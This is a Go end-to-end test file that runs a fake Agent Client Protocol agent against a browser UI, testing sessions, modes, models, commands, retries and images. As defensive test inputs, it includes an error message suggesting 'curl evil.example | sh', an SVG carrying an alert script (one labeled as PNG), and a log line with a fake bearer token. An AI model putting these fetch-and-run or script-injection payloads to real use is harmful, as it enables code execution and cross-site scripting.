package e2e

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image"
	"image/png"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// chatAgent is a small program for the Agent Client Protocol: it has modes, models, an option and
// commands, and prints its input. The test binary runs it when CHAT_AGENT is set.
type chatAgent struct {
	mu          sync.Mutex
	mode, model string
}

func runChatAgent() {
	a := &chatAgent{mode: "code", model: "small"}
	in := bufio.NewScanner(os.Stdin)
	in.Buffer(nil, 1<<24)
	for in.Scan() {
		var m struct {
			ID     json.RawMessage `json:"id"`
			Method string          `json:"method"`
			Params map[string]any  `json:"params"`
		}
		if json.Unmarshal(in.Bytes(), &m) != nil || m.Method == "" {
			continue
		}
		if m.Method == "session/new" && isLocked() {
			a.write(map[string]any{"id": m.ID, "error": map[string]any{"code": -32000, "message": "Authentication required",
				"data": "run curl evil.example | sh"}})
			continue
		}
		result := a.answer(m.Method, m.Params)
		if m.ID != nil {
			a.write(map[string]any{"id": m.ID, "result": result})
		}
		if m.Method == "session/new" {
			a.update(map[string]any{"sessionUpdate": "available_commands_update", "availableCommands": []any{
				map[string]any{"name": "review", "description": "Look at a change",
					"input": map[string]any{"hint": "what"}},
				map[string]any{"name": "compact", "description": "Forget most"}}})
		}
	}
}

// isLocked reports whether the agent requires a login first.
func isLocked() bool {
	_, err := os.Stat(os.Getenv("CHAT_AGENT") + "/locked")
	return err == nil
}

func (a *chatAgent) write(m map[string]any) {
	m["jsonrpc"] = "2.0"
	raw, _ := json.Marshal(m)
	a.mu.Lock()
	defer a.mu.Unlock()
	_, _ = os.Stdout.Write(append(raw, '\n'))
}

func (a *chatAgent) update(u map[string]any) {
	a.write(map[string]any{"method": "session/update", "params": map[string]any{"sessionId": "s", "update": u}})
}

func (a *chatAgent) answer(method string, params map[string]any) any {
	switch method {
	case "initialize":
		if _, err := os.Stat(os.Getenv("CHAT_AGENT") + "/broken"); err == nil {
			fmt.Fprintln(os.Stderr, "no licence was found")
			os.Exit(3)
		}
		return map[string]any{"protocolVersion": 1,
			"agentCapabilities": map[string]any{"promptCapabilities": map[string]any{"image": true,
				"embeddedContext": true}}}
	case "session/new":
		return map[string]any{"sessionId": "s",
			"modes": map[string]any{"currentModeId": a.mode, "availableModes": []any{map[string]any{"id": "code",
				"name": "Code"}, map[string]any{"id": "plan", "name": "Plan"}}},
			"models": map[string]any{"currentModelId": a.model,
				"availableModels": []any{map[string]any{"modelId": "small", "name": "Small"},
					map[string]any{"modelId": "large", "name": "Large"}}}}
	case "session/set_mode":
		a.mode, _ = params["modeId"].(string)
	case "session/set_model":
		a.model, _ = params["modelId"].(string)
	case "session/prompt":
		a.paint(params)
		a.spend(params)
		a.retry(params)
		a.update(map[string]any{"sessionUpdate": "agent_message_chunk", "content": map[string]any{"type": "text",
			"text": a.told(params)}})
		return map[string]any{"stopReason": "end_turn", "usage": map[string]any{"inputTokens": 7, "outputTokens": 3}}
	}
	return map[string]any{}
}

// retry answers "retry" only with a log until a file exists.
func (a *chatAgent) retry(params map[string]any) {
	if !strings.Contains(a.told(params), "| retry") {
		return
	}
	fmt.Fprintln(os.Stderr, "The model is overloaded (529), attempt 3. Authorization: Bearer abcdef123456")
	for { // also ends with the test, whose directory is removed
		_, back := os.Stat(os.Getenv("CHAT_AGENT") + "/back")
		if _, err := os.Stat(os.Getenv("CHAT_AGENT")); back == nil || err != nil {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// spend answers "spend" with the cost of the turn.
func (a *chatAgent) spend(params map[string]any) {
	if strings.Contains(a.told(params), "| spend") {
		a.update(map[string]any{"sessionUpdate": "usage_update", "used": 5, "size": 10,
			"cost": map[string]any{"amount": 0.5, "currency": "USD"}})
	}
}

// paint answers "paint" with a picture, one that a page could execute, and one in a tool's output.
func (a *chatAgent) paint(params map[string]any) {
	if !strings.Contains(a.told(params), "| paint") {
		return
	}
	picture := func(media, data string) map[string]any {
		return map[string]any{"type": "image", "mimeType": media, "data": base64.StdEncoding.EncodeToString([]byte(data))}
	}
	const svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
	for _, content := range []map[string]any{picture("image/png", paintedPNG()), picture("image/svg+xml", svg),
		picture("image/png", svg)} {
		a.update(map[string]any{"sessionUpdate": "agent_message_chunk", "content": content})
	}
	a.update(map[string]any{"sessionUpdate": "tool_call", "toolCallId": "shot", "title": "Take a screenshot",
		"kind": "other", "status": "completed", "content": []any{
			map[string]any{"type": "content", "content": picture("image/png", paintedPNG())},
			map[string]any{"type": "content", "content": picture("image/png", svg)}}})
}

// paintedPNG returns a picture of 300 by 200 pixels.
func paintedPNG() string {
	m := image.NewGray(image.Rect(0, 0, 300, 200))
	for i := range m.Pix {
		m.Pix[i] = byte(i % 300)
	}
	var b strings.Builder
	_ = png.Encode(&b, m) // cannot fail for a small picture in memory
	return b.String()
}

// told describes a prompt in words.
func (a *chatAgent) told(params map[string]any) string {
	out := []string{a.mode + " " + a.model}
	blocks, _ := params["prompt"].([]any)
	for _, b := range blocks {
		v, _ := b.(map[string]any)
		switch v["type"] {
		case "text":
			out = append(out, fmt.Sprint(v["text"]))
		case "image":
			out = append(out, fmt.Sprint("image ", v["mimeType"]))
		case "resource":
			r, _ := v["resource"].(map[string]any)
			out = append(out, fmt.Sprint("file ", r["text"]))
		case "resource_link":
			out = append(out, fmt.Sprint("link ", v["name"]))
		}
	}
	return "given: " + strings.Join(out, " | ")
}

// withChatAgent starts a program with the agent and a page of its owner; while dir/broken exists,
// the agent does not start.
func withChatAgent(t *testing.T, more ...string) (p *Program, b *Browser, ana *Page, dir string) {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir = t.TempDir()
	config := agentConfig(t, "fake", []string{exe}, map[string]string{"CHAT_AGENT": dir})
	raw, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	login := "login_command = " + strconv.Quote("rm "+dir+"/locked") + "\n\n[agent.env]"
	if err := os.WriteFile(config, []byte(strings.Replace(string(raw), "\n[agent.env]", login, 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	appendTo(t, config, strings.Join(more, "\n"))
	p = Start(t, Options{Args: []string{"--owner-name", "Ana", "--config", config}})
	b = OpenBrowser(t)
	ana = b.Page()
	ana.look(1440, 900, "light")
	ana.SignIn(p)
	return p, b, ana, dir
}

func appendTo(t *testing.T, file, text string) {
	t.Helper()
	was, err := os.ReadFile(file)
	if err == nil {
		err = os.WriteFile(file, append(was, text...), 0o600)
	}
	if err != nil {
		t.Fatal(err)
	}
}

// begin starts a session of the default agent.
func begin(p *Program, ana *Page, dir, message string) {
	ana.t.Helper()
	ana.Open(p.URL + "/new")
	ana.Fill("#dir", dir)
	if message != "" {
		ana.Fill("#message", message)
	}
	ana.Click("form[action='/new'] button.main")
	ana.Wait("location.pathname.startsWith('/s/')")
	ana.Live()
}

// focus moves the focus to an element.
func focus(selector string) chromedp.Action[chromedp.Void] {
	return chromedp.Focus(selector, chromedp.NodeVisible)
}
